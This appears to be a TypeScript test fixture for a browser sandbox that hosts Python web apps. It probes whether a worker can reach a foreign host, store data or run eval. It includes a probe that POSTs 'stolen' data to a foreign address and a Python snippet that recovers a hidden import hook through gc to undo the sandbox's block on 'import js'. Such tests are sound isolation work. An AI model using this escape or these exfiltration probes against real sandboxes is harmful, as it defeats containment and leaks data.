// Each way out of a worker, as JavaScript that resolves if the way is open, and the Python of a stranger who tries them all.

/** OWN and FOREIGN are addresses with a slash at their end, UDP a port, NAME what the way is called there. */
export const NETWORK: Readonly<Record<string, string>> = {
  request: 'asked(FOREIGN + NAME)',
  'request-own': 'asked(OWN + NAME)',
  'request-at-once':
    'new Promise((ok) => { const x = new XMLHttpRequest(); x.open("GET", FOREIGN + NAME, false); x.send(); ok(); })',
  importScripts: 'new Promise((ok) => { importScripts(FOREIGN + NAME); ok(); })',
  'importScripts-own': 'new Promise((ok) => { importScripts(OWN + "assets/nothing.js?" + NAME); ok(); })',
  import: 'import(FOREIGN + NAME)',
  socket:
    'new Promise((ok, no) => { const s = new WebSocket((FOREIGN + NAME).replace("http", "ws")); s.onopen = ok; s.onerror = no; })',
  'event-source': 'new Promise((ok, no) => { const s = new EventSource(FOREIGN + NAME); s.onopen = ok; s.onerror = no; })',
  font: 'new FontFace("x", "url(" + FOREIGN + NAME + ")").load()',
  'worker-own': 'started(new Worker(OWN + NAME))',
  'module-worker-own': 'started(new Worker(OWN + NAME, { type: "module" }))',
};
/** Only where nobody has put another `fetch` in its place: in a worker within the worker. */
export const FETCHES: Readonly<Record<string, string>> = {
  fetch: 'fetch(FOREIGN + NAME)',
  'fetch-own': 'fetch(OWN + NAME).then((r) => r.ok || r.status === 404 || Promise.reject())',
  'fetch-blind': 'fetch(FOREIGN + NAME, { mode: "no-cors", keepalive: true })',
  'fetch-posting': 'fetch(FOREIGN + NAME, { method: "POST", mode: "no-cors", body: "stolen" })',
};
/** Not in every Chromium, or not over plain HTTP: tried, but their silence proves nothing. */
export const RARE: Readonly<Record<string, string>> = {
  'socket-stream': 'new WebSocketStream((FOREIGN + NAME).replace("http", "ws")).opened',
  transport: 'new WebTransport("https://127.0.0.1:" + UDP + "/" + NAME).ready',
  'file-system': 'new Promise((ok, no) => webkitRequestFileSystem(0, 1024, ok, no))',
  'service-worker': 'navigator.serviceWorker.register(OWN + NAME)',
  cookies: 'cookieStore.set("stolen", "1")',
  notification: 'Notification.permission === "granted" ? Promise.resolve() : Promise.reject()',
  usb: 'navigator.usb.getDevices()',
};
/** What would stay behind, or tell where it is. */
export const KEPT: Readonly<Record<string, string>> = {
  database: 'new Promise((ok, no) => { const r = indexedDB.open("x"); r.onsuccess = ok; r.onerror = no; })',
  caches: 'caches.open("x")',
  files: 'navigator.storage.getDirectory()',
  locks: 'navigator.locks.request("x", async () => 1)',
  eval: 'Promise.resolve(eval("1"))',
  Function: 'Promise.resolve(new Function("return 1")())',
  origin: 'self.origin === "null" ? Promise.reject() : Promise.resolve()',
};

export const inWorker: readonly string[] = Object.keys({ ...NETWORK, ...KEPT });
export const inNested: readonly string[] = Object.keys({ ...NETWORK, ...FETCHES, ...KEPT }).map((name) => `nested-${name}`);

const SCRIPT = `
const asked = (url) => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", url); x.onload = ok; x.onerror = no; x.send(); });
const started = (w) => new Promise((ok, no) => { w.onmessage = ok; w.onerror = no; });
for (const [name, way] of Object.entries(ways)) {
  const NAME = WHO + "/" + PREFIX + name;
  const late = new Promise((_, no) => setTimeout(no, 2000));
  Promise.race([(async () => way(NAME))(), late]).then(() => tell(PREFIX + name, "OPEN"), () => tell(PREFIX + name, "shut"));
}
`;
const functions = (ways: Readonly<Record<string, string>>) =>
  `const ways = {${Object.entries(ways).map(([name, way]) => `${JSON.stringify(name)}: (NAME) => ${way}`)}};`;

/** Doors are shut as a courtesy; this is how a stranger opens them again. */
export const OPENED = `import gc
import operator
import sys

things = gc.get_objects()
sys.meta_path.insert(0, things[list(map(operator.attrgetter("__name__"), map(type, things))).index("JsFinder")])
import js`;

/** The program: `/try` tries every way, any other path tells what has become of them. `who` is the first part of what a listener hears. */
export function stranger(who: string, own: string, foreign: string, udp: number): string {
  const given = `const OWN = ${JSON.stringify(own)}, FOREIGN = ${JSON.stringify(foreign)}, UDP = ${udp}, WHO = ${JSON.stringify(who)};`;
  const nested = `${given} const PREFIX = "nested-", tell = (name, what) => postMessage([name, what]); ${functions({ ...NETWORK, ...FETCHES, ...RARE, ...KEPT })} ${SCRIPT}`;
  const script = `${given} globalThis.told = {}; { const PREFIX = "", tell = (name, what) => { told[name] = what; }; ${functions({ ...NETWORK, ...RARE, ...KEPT })} ${SCRIPT} }
const inside = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(nested)}])));
inside.onmessage = ({ data: [name, what] }) => { told[name] = what; };`;
  return `${OPENED}

SCRIPT = ${JSON.stringify(script)}


def application(environ, start_response):
    start_response("200 OK", [("Content-Type", "text/plain")])
    if environ["PATH_INFO"] == "/try":
        js.importScripts(js.URL.createObjectURL(js.Blob.new([SCRIPT])))
        return [b"tried"]
    return [str(js.JSON.stringify(js.told)).encode()]
`;
}
